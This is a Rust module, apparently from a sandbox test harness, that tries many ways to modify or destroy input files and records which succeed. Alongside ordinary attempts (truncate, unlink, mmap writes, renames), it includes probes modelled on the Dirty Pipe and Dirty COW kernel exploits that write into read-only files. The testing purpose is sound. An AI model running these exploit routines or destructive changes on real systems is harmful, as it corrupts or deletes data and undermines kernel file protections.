//! F11: changing the inputs. What succeeds is listed; the harness checks that nothing changed outside.

use crate::facts::Facts;
use crate::report::Report;
use crate::sys::{self, attempt};
use crate::walk;
use std::fs::{self, File};
use std::io;
use std::os::fd::AsRawFd;
use std::os::unix::fs::{FileExt, PermissionsExt};
use std::path::{Path, PathBuf};

/// What to do to a path, and its name.
type Trick = (&'static str, fn(&Path) -> io::Result<()>);

/// F11.
pub fn modify(facts: &Facts, report: &mut Report) {
    let Some(inputs) = facts.list("input_files").filter(|l| !l.is_empty()) else {
        return report.skip("no fact input_files");
    };
    for input in inputs {
        let path = Path::new(input);
        let Ok(before) = fs::read(path) else {
            report.broke(format!("inconclusive: input {input} cannot be read"));
            continue;
        };
        read_only_tricks(report, path, &before);
        let done = changes(path, walk::scratch(facts));
        let list = if done.is_empty() { "nothing".to_string() } else { done.join(" ") };
        if facts.in_host_mounts() {
            report.check(!done.is_empty(), format!("{input} of the host: {list}"));
        } else {
            report.held();
            report.note(format!("{input}: did {list}"));
        }
    }
}

/// Patterns of page-cache bugs: with a descriptor for reading only, the content must stay, private copy or not.
fn read_only_tricks(report: &mut Report, path: &Path, before: &[u8]) {
    if before.is_empty() {
        return;
    }
    let name = path.display();
    let tricks: [Trick; 3] =
        [("splice into a pipe", dirty_pipe), ("write by /proc/self/mem", dirty_cow), ("mprotect", protect)];
    for (what, trick) in tricks {
        let _ = attempt(|| trick(path).map(|()| 0).map_err(|e| e.raw_os_error().unwrap_or(0)));
        let after = fs::read(path).unwrap_or_default();
        report.check(after != before, format!("{name} changed through a descriptor for reading: {what}"));
    }
}

/// CVE-2022-0847: fill and drain a pipe, splice a page into it, and append.
fn dirty_pipe(path: &Path) -> io::Result<()> {
    let file = File::open(path)?;
    let (read, write) = io::pipe()?;
    let block = [0x41u8; 4096];
    for _ in 0..16 {
        io::Write::write_all(&mut &write, &block)?;
    }
    let mut drain = [0u8; 4096];
    for _ in 0..16 {
        io::Read::read_exact(&mut &read, &mut drain)?;
    }
    let mut offset = 0i64;
    let place = &raw mut offset as u64;
    let args = [file.as_raw_fd() as u64, place, write.as_raw_fd() as u64, 0, 1, 0];
    sys::raw(libc::SYS_splice, args).map_err(io::Error::from_raw_os_error)?;
    io::Write::write_all(&mut &write, b"HOSTILE")
}

/// CVE-2016-5195, without the race: a forced write must go to a copy.
fn dirty_cow(path: &Path) -> io::Result<()> {
    let file = File::open(path)?;
    let address = map(&file, libc::PROT_READ, libc::MAP_PRIVATE)?;
    let memory = fs::OpenOptions::new().write(true).open("/proc/self/mem")?;
    memory.write_all_at(b"H", address)?;
    let shared = map(&file, libc::PROT_READ, libc::MAP_SHARED)?;
    memory.write_all_at(b"H", shared)
}

fn protect(path: &Path) -> io::Result<()> {
    let file = File::open(path)?;
    let address = map(&file, libc::PROT_READ, libc::MAP_SHARED)?;
    let both = (libc::PROT_READ | libc::PROT_WRITE) as u64;
    sys::call(libc::SYS_mprotect, &[address, 4096, both]).map_err(io::Error::from_raw_os_error)?;
    poke(address);
    Ok(())
}

fn map(file: &File, protection: i32, flags: i32) -> io::Result<u64> {
    // SAFETY: a fresh mapping at an address of the kernel's choice.
    let address = unsafe { libc::mmap(std::ptr::null_mut(), 4096, protection, flags, file.as_raw_fd(), 0) };
    if address == libc::MAP_FAILED { Err(io::Error::last_os_error()) } else { Ok(address as u64) }
}

/// Flips the first byte of a mapping that was just made writable.
fn poke(address: u64) {
    // SAFETY: the address is the start of a writable mapping of a file that is not empty.
    unsafe {
        let first = address as *mut u8;
        first.write_volatile(!first.read_volatile());
    }
}

type Change = (&'static str, fn(&Path, &Path) -> io::Result<()>);

/// From the gentle to the final: each works on what the ones before left.
const CHANGES: &[Change] = &[
    ("chmod", |p, _| fs::set_permissions(p, fs::Permissions::from_mode(0o777))),
    ("chown", |p, _| std::os::unix::fs::chown(p, Some(crate::kernel::own_uid()), None)),
    ("utime", |p, _| fs::OpenOptions::new().write(true).open(p)?.set_modified(std::time::UNIX_EPOCH)),
    ("setxattr", |p, _| {
        let (path, key) = (sys::cpath(p), c"user.hostile");
        let args = [path.as_ptr() as u64, key.as_ptr() as u64, key.as_ptr() as u64, 1, 0];
        sys::call(libc::SYS_setxattr, &args).map(drop).map_err(io::Error::from_raw_os_error)
    }),
    ("link+write", |p, scratch| {
        let link = scratch.join(".hostile-f11-link");
        fs::hard_link(p, &link)?;
        let result = flip(&link);
        fs::remove_file(&link)?;
        result
    }),
    ("link-beside", |p, _| {
        let link = p.with_extension("hostile-link");
        fs::hard_link(p, &link)?;
        let result = flip(&link);
        fs::remove_file(&link)?;
        result
    }),
    ("write", |p, _| flip(p)),
    ("mmap", |p, _| {
        let file = fs::OpenOptions::new().read(true).write(true).open(p)?;
        if file.metadata()?.len() == 0 {
            return Err(io::ErrorKind::InvalidInput.into());
        }
        let address = map(&file, libc::PROT_READ | libc::PROT_WRITE, libc::MAP_SHARED)?;
        poke(address);
        sys::call(libc::SYS_msync, &[address, 4096, libc::MS_SYNC as u64])
            .map_err(io::Error::from_raw_os_error)?;
        Ok(())
    }),
    ("fallocate", |p, _| {
        let file = fs::OpenOptions::new().write(true).open(p)?;
        let mode = (libc::FALLOC_FL_PUNCH_HOLE | libc::FALLOC_FL_KEEP_SIZE) as u64;
        let args = [file.as_raw_fd() as u64, mode, 0, 4096];
        sys::call(libc::SYS_fallocate, &args).map(drop).map_err(io::Error::from_raw_os_error)
    }),
    ("append", |p, _| io::Write::write_all(&mut fs::OpenOptions::new().append(true).open(p)?, b"HOSTILE")),
    ("truncate", |p, _| fs::OpenOptions::new().write(true).open(p)?.set_len(0)),
    ("rename-over", |p, _| {
        let other = p.with_extension("hostile");
        fs::write(&other, b"HOSTILE")?;
        fs::rename(&other, p).inspect_err(|_| drop(fs::remove_file(&other)))
    }),
    ("rename-away", |p, scratch| {
        let away = scratch.join(".hostile-f11-away");
        fs::rename(p, &away)?;
        fs::rename(&away, p)
    }),
    ("unlink", |p, _| fs::remove_file(p)),
    ("create-anew", |p, _| File::create_new(p).and_then(|mut f| io::Write::write_all(&mut f, b"HOSTILE"))),
    ("rename-parent", |p, _| {
        let parent = p.parent().ok_or(io::ErrorKind::NotFound)?;
        let away = parent.with_extension("hostile-dir");
        fs::rename(parent, &away)?;
        fs::rename(&away, parent)
    }),
];

fn flip(path: &Path) -> io::Result<()> {
    let file = fs::OpenOptions::new().read(true).write(true).open(path)?;
    let mut byte = [0u8];
    file.read_at(&mut byte, 0)?;
    file.write_all_at(&[!byte[0]], 0)
}

fn changes(path: &Path, scratch: Option<PathBuf>) -> Vec<String> {
    let scratch = scratch.unwrap_or_else(|| PathBuf::from("/tmp"));
    let mut done = Vec::new();
    for (name, change) in CHANGES {
        // In a child, because a write through a mapping can also end in SIGBUS.
        let result = attempt(|| {
            change(path, &scratch).map(|()| 0).map_err(|e| e.raw_os_error().unwrap_or(libc::EINVAL))
        });
        if matches!(result, sys::Attempt::Did(_)) {
            done.push((*name).to_string());
        }
    }
    done
}
